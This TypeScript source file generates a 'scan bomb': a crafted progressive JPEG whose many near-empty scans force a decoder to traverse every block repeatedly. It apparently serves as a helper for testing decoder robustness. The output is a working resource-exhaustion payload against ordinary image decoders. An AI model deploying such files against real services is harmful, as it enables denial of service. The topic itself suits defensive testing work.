/**
 * A progressive JPEG in grey, square, of so many scans, each of which says in some 40 bytes that nothing changes in any block. The
 * decoder goes through all blocks for each scan. Source: ITU-T T.81, annex G.
 */
export function scanBomb(side: number, scans: number): Buffer {
  const blocks = Math.ceil(side / 8) ** 2;
  const frame = [8, side >> 8, side & 255, side >> 8, side & 255, 1, 1, 0x11, 0];
  const emptyScan = Buffer.concat([segment(0xda, [1, 1, 0, 1, 63, 0]), endOfBandRuns(blocks)]);
  return Buffer.concat([
    Buffer.of(0xff, 0xd8),
    segment(0xdb, [0, ...Array.from({ length: 64 }, () => 1)]),
    segment(0xc2, frame),
    // One code of one bit in each table: difference 0 for DC, a run of 2^14 and more blocks without AC coefficients for AC.
    segment(0xc4, [0x00, 1, ...Array.from({ length: 15 }, () => 0), 0x00]),
    segment(0xc4, [0x10, 1, ...Array.from({ length: 15 }, () => 0), 0xe0]),
    segment(0xda, [1, 1, 0, 0, 0, 0]),
    Buffer.alloc(Math.ceil(blocks / 8)),
    ...Array.from({ length: scans - 1 }, () => emptyScan),
    Buffer.of(0xff, 0xd9),
  ]);
}

function segment(marker: number, body: readonly number[]): Buffer {
  const length = body.length + 2;
  return Buffer.from([0xff, marker, length >> 8, length & 255, ...body]);
}

const SHORTEST_RUN = 2 ** 14;
const LONGEST_RUN = 2 ** 15 - 1;

/** Each run: the code `0`, then 14 bits of how much longer than the shortest it is. 0xFF is followed by a stuffed 0. */
function endOfBandRuns(blocks: number): Buffer {
  let bits = "";
  for (let left = blocks; left >= SHORTEST_RUN; ) {
    const run = Math.min(left, LONGEST_RUN);
    bits += `0${(run - SHORTEST_RUN).toString(2).padStart(14, "0")}`;
    left -= run;
  }
  const bytes = bits.match(/.{1,8}/g)?.map((byte) => Number.parseInt(byte.padEnd(8, "1"), 2)) ?? [];
  return Buffer.from(bytes.flatMap((byte) => (byte === 0xff ? [0xff, 0] : [byte])));
}
